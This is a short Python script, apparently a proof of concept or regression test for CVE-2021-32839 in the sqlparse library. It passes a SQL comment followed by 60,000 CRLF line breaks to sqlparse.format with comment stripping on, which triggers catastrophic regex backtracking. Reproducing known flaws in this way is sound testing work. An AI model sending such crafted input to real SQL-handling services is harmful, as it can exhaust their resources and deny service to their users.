# CVE-2021-32839 (PYSEC-2021-333): the StripComments filter backtracks on many line breaks.
import sqlparse

sqlparse.format("select 1 -- x" + "\r\n" * 60000 + "select", strip_comments=True)
print("formatted")
